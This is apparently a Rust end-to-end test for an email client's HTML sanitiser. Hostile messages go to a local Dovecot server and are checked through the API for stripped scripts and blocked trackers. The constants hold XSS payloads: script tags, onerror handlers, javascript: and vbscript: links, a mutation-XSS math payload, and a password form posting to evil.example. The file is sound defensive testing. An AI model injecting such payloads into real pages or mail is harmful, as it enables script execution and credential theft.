//! Message HTML over the API is sanitised: hostile messages delivered to a real Dovecot,
//! synced and served by a real `switchboard serve`, read back through GET /api/messages/{id}.

use std::collections::HashMap;
use std::net::{SocketAddr, TcpListener};
use std::process::Child;
use std::time::{Duration, Instant};

use serde_json::Value;
use switchboard_tests::http::{get, HttpResponse};
use switchboard_tests::{Dovecot, Switchboard, TestMail};

/// multipart/alternative: a plain part and a hostile HTML part.
const ALTERNATIVE_HTML: &str = r#"<html><head>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<style>body { background: url(http://tracker.example/css-bg.png) }</style>
<script>alert("head")</script>
</head><body>
<p>Visible greeting from the alternative part.</p>
<table border="1"><tr><td>Table cell</td></tr></table>
<a href="https://example.org/safe">a safe link</a>
<a href="javascript:alert(2)">a script link</a>
<a href="&#106;avascript:alert(3)">an encoded script link</a>
<img src="http://tracker.example/pixel.gif" width="1" height="1" onerror="alert(4)">
<img src="x" onerror="alert(5)" alt="broken">
<div style="width: expression(alert(6)); color: red">Styled text</div>
<form action="http://evil.example/steal"><input type="password" name="p"><button>Send</button></form>
<SCRIPT SRC="http://evil.example/x.js"></SCRIPT>
</body></html>"#;

/// text/html only.
const HTML_ONLY: &str = r#"<p>Visible text of the HTML-only message.</p>
<svg onload="alert(1)"><script>alert(2)</script></svg>
<iframe src="http://evil.example/frame"></iframe>
<table background="https://tracker.example/table-bg.jpg"><tr><td style="background-image: url('https://tracker.example/cell-bg.png'); color: blue">Cell with backgrounds</td></tr></table>
<img src="https://tracker.example/banner.png" alt="Banner">
<math><mtext><table><mglyph><style><img src=x onerror=alert(3)></style></mglyph></table></mtext></math>
<ScRiPt>alert(4)</sCrIpT>
<a href="vbscript:msgbox(5)">vb link</a>
<meta http-equiv="refresh" content="5;url=http://evil.example/">
"#;

/// The HTML after quoted-printable decoding (the encoding must not smuggle anything).
const QP_BODY: &str = "<p>Visible text of the quoted-printable message.</p>=0D=0A\
=3Cscript=3Ealert(1)=3C/script=3E=0D=0A\
<img src=3D\"http://tracker.example/qp.gif\" onload=3D\"alert(2)\" alt=3D\"qp image\">=0D=0A\
<a href=3D\"java&#x09;script:alert(3)\">qp link</a>\r\n";

const CID_HTML: &str = r#"<p>Inline logo below.</p><img src="cid:logo@sanitize.test" alt="logo" onload="alert(1)"><img src="http://tracker.example/next-to-cid.gif">"#;

fn messages() -> Vec<Vec<u8>> {
    let alternative = TestMail::new()
        .message_id("<hostile-alt@example.org>")
        .from("Mallory <mallory@example.org>")
        .subject("Hostile alternative")
        .body("Plain text part of the alternative.\r\n")
        .html(ALTERNATIVE_HTML)
        .build();
    let html_only = TestMail::new()
        .message_id("<hostile-html@example.org>")
        .from("Mallory <mallory@example.org>")
        .subject("Hostile HTML only")
        .body_bytes("text/html; charset=utf-8", HTML_ONLY.as_bytes())
        .build();
    let qp = format!(
        "Message-ID: <hostile-qp@example.org>\r\n\
         Date: Mon, 01 Jan 2024 10:00:00 +0000\r\n\
         From: Mallory <mallory@example.org>\r\n\
         To: alice@localhost\r\n\
         Subject: Hostile quoted-printable\r\n\
         MIME-Version: 1.0\r\n\
         Content-Type: text/html; charset=utf-8\r\n\
         Content-Transfer-Encoding: quoted-printable\r\n\
         \r\n\
         {QP_BODY}"
    )
    .into_bytes();
    let cid = TestMail::new()
        .message_id("<hostile-cid@example.org>")
        .from("Mallory <mallory@example.org>")
        .subject("Hostile with inline image")
        .body("Plain part.\r\n")
        .html(CID_HTML)
        .inline_image(
            "logo@sanitize.test",
            "logo.png",
            b"\x89PNG\r\n\x1a\nnot really",
        )
        .build();
    vec![alternative, html_only, qp, cid]
}

struct Served {
    _dv: Dovecot,
    _sb: Switchboard,
    addr: SocketAddr,
    token: String,
    child: Child,
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn wait_for(what: &str, timeout: Duration, mut check: impl FnMut() -> bool) {
    let deadline = Instant::now() + timeout;
    while Instant::now() < deadline {
        if check() {
            return;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("timed out waiting for {what}");
}

/// Dovecot with `mail` delivered, a synced account and a running `switchboard serve`, as in
/// server_e2e.rs.
fn serve(mail: &[Vec<u8>]) -> Served {
    let dv = Dovecot::start().unwrap();
    for m in mail {
        dv.deliver("alice", "INBOX", m).unwrap();
    }
    let sb = Switchboard::new().unwrap();
    let port = dv.imaps_port().to_string();
    sb.run_with_stdin_ok(
        &[
            "account",
            "add",
            "imap",
            "imap",
            "--host",
            "127.0.0.1",
            "--port",
            &port,
            "--user",
            "alice",
            "--password-stdin",
            "--trust-cert",
            dv.cert_sha256(),
        ],
        b"alice-pass",
    )
    .unwrap();
    let out = sb.run_ok(&["token", "create", "tests"]).unwrap();
    let token = out
        .lines()
        .last()
        .unwrap()
        .split_whitespace()
        .last()
        .unwrap()
        .to_string();
    let free = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = free.local_addr().unwrap();
    drop(free);
    let child = sb
        .spawn(&["serve", "--listen", &addr.to_string(), "--interval", "600"])
        .unwrap();
    let served = Served {
        _dv: dv,
        _sb: sb,
        addr,
        token,
        child,
    };
    wait_for("the server", Duration::from_secs(20), || {
        get(addr, "/health", &[])
            .map(|r| r.status == 200)
            .unwrap_or(false)
    });
    wait_for("the first sync", Duration::from_secs(30), || {
        served.api("/api/messages?limit=1000").json().unwrap()["messages"]
            .as_array()
            .unwrap()
            .len()
            == mail.len()
    });
    served
}

impl Served {
    fn api(&self, path: &str) -> HttpResponse {
        let auth = format!("Bearer {}", self.token);
        get(self.addr, path, &[("Authorization", &auth)]).unwrap()
    }

    /// Message ids by subject.
    fn ids(&self) -> HashMap<String, i64> {
        self.api("/api/messages?limit=1000").json().unwrap()["messages"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| {
                (
                    m["subject"].as_str().unwrap().to_string(),
                    m["id"].as_i64().unwrap(),
                )
            })
            .collect()
    }

    fn message(&self, id: i64, query: &str) -> Value {
        let r = self.api(&format!("/api/messages/{id}{query}"));
        assert_eq!(r.status, 200, "{id}{query}: {}", r.text());
        assert_eq!(r.header("content-type"), Some("application/json"));
        r.json().unwrap()
    }
}

fn html_of(m: &Value) -> String {
    m["html_body"]
        .as_str()
        .unwrap_or_else(|| panic!("no html_body in {m}"))
        .to_string()
}

/// Nothing that runs, submits, redirects or smuggles a script URL, whatever `remote` is.
fn assert_no_active_content(html: &str, what: &str) {
    let lower = html.to_ascii_lowercase();
    for bad in [
        "<script",
        "onerror",
        "onload",
        "javascript:",
        "vbscript:",
        "<form",
        "<input",
        "<button",
        "<meta",
        "<iframe",
        "<svg",
        "<math",
        "<style",
        "expression",
        "evil.example",
    ] {
        assert!(
            !lower.contains(bad),
            "{what}: '{bad}' is in the HTML:\n{html}"
        );
    }
}

#[test]
fn message_html_is_sanitised_and_remote_images_blocked_unless_asked_for() {
    let s = serve(&messages());
    let ids = s.ids();
    let id = |subject: &str| {
        *ids.get(subject)
            .unwrap_or_else(|| panic!("no message '{subject}' in {ids:?}"))
    };

    // (subject, visible text that must survive, remote references blocked, remote markup
    // that only `remote=allow` shows)
    let cases: [(&str, &str, u64, &[&str]); 4] = [
        (
            "Hostile alternative",
            "Visible greeting from the alternative part.",
            1,
            &[r#"src="http://tracker.example/pixel.gif""#],
        ),
        (
            "Hostile HTML only",
            "Visible text of the HTML-only message.",
            3,
            &[
                r#"<table background="https://tracker.example/table-bg.jpg">"#,
                "url('https://tracker.example/cell-bg.png')",
                r#"src="https://tracker.example/banner.png""#,
            ],
        ),
        (
            "Hostile quoted-printable",
            "Visible text of the quoted-printable message.",
            1,
            &[r#"src="http://tracker.example/qp.gif""#],
        ),
        (
            "Hostile with inline image",
            "Inline logo below.",
            1,
            &[r#"src="http://tracker.example/next-to-cid.gif""#],
        ),
    ];

    for (subject, visible, blocked, remote) in cases {
        let id = id(subject);

        // Default: blocked.
        let m = s.message(id, "");
        let html = html_of(&m);
        assert_no_active_content(&html, subject);
        assert!(html.contains(visible), "{subject}: lost its text:\n{html}");
        assert!(
            !html.contains("tracker.example"),
            "{subject}: a remote reference is left:\n{html}"
        );
        assert_eq!(m["remote_blocked"], blocked, "{subject}:\n{html}");
        assert!(m["remote_blocked"].as_u64().unwrap() > 0);
        // The rest of the detail is still there.
        assert_eq!(m["subject"], subject);
        assert_eq!(m["from"]["email"], "mallory@example.org");

        // Explicit block is the default.
        assert_eq!(s.message(id, "?remote=block"), m, "{subject}");

        // Allowed: remote images back, everything active still gone.
        let allowed = s.message(id, "?remote=allow");
        let html = html_of(&allowed);
        assert_no_active_content(&html, &format!("{subject} (remote=allow)"));
        assert!(html.contains(visible), "{subject}: lost its text:\n{html}");
        for r in remote {
            assert!(html.contains(r), "{subject}: {r} is missing:\n{html}");
        }
        assert_eq!(allowed["remote_blocked"], 0, "{subject}");

        // A bad value is a 400 naming the parameter.
        let r = s.api(&format!("/api/messages/{id}?remote=bogus"));
        assert_eq!(r.status, 400, "{}", r.text());
        let body = r.json().unwrap();
        assert_eq!(body["error"], "bad_request");
        assert!(
            body["detail"].as_str().unwrap().contains("'remote'"),
            "{body}"
        );
    }

    // Harmless content and formatting survive.
    let alt = s.message(id("Hostile alternative"), "");
    let html = html_of(&alt);
    for kept in [
        r#"<table border="1"><tbody><tr><td>Table cell</td></tr></tbody></table>"#,
        r#"<a href="https://example.org/safe" target="_blank" rel="noopener noreferrer">a safe link</a>"#,
        r#"<div style="color: red">Styled text</div>"#,
        r#"<img alt="broken">"#,
    ] {
        assert!(html.contains(kept), "lost {kept}:\n{html}");
    }
    // The blocked pixel is still an element, with its size and without a source.
    let pixel = html
        .split('<')
        .find(|t| t.starts_with("img ") && t.contains(r#"width="1""#))
        .unwrap_or_else(|| panic!("the blocked pixel's element is gone:\n{html}"));
    assert!(!pixel.contains("src="), "{pixel}");
    assert!(alt["text_body"]
        .as_str()
        .unwrap()
        .contains("Plain text part of the alternative."));
    let cid = s.message(id("Hostile with inline image"), "");
    let html = html_of(&cid);
    assert!(
        html.contains(r#"<img src="cid:logo@sanitize.test" alt="logo">"#),
        "{html}"
    );
    let inline = &cid["attachments"][0];
    assert_eq!(inline["content_id"], "logo@sanitize.test");

    // The raw source stays raw, and only as a download.
    let raw = s.api(&format!("/api/messages/{}/raw", id("Hostile alternative")));
    assert_eq!(raw.status, 200);
    assert_eq!(raw.header("content-type"), Some("message/rfc822"));
    assert!(
        raw.header("content-disposition")
            .unwrap()
            .starts_with("attachment;"),
        "{:?}",
        raw.header("content-disposition")
    );
    assert_eq!(raw.header("x-content-type-options"), Some("nosniff"));
    assert!(raw.text().contains("<script>alert(\"head\")</script>"));

    // Lists and search carry no bodies at all.
    for path in [
        "/api/messages?limit=1000",
        "/api/search?q=visible",
        "/api/search?q=mallory",
        "/api/changes?since=0",
    ] {
        let r = s.api(path);
        assert_eq!(r.status, 200, "{path}: {}", r.text());
        let text = r.text();
        assert!(!text.contains("html_body"), "{path}: {text}");
        assert!(!text.to_ascii_lowercase().contains("<script"), "{path}");
        assert!(!text.contains("tracker.example"), "{path}");
    }
    let found = s.api("/api/search?q=visible").json().unwrap();
    assert!(
        !found["messages"].as_array().unwrap().is_empty(),
        "search finds the HTML text: {found}"
    );
}
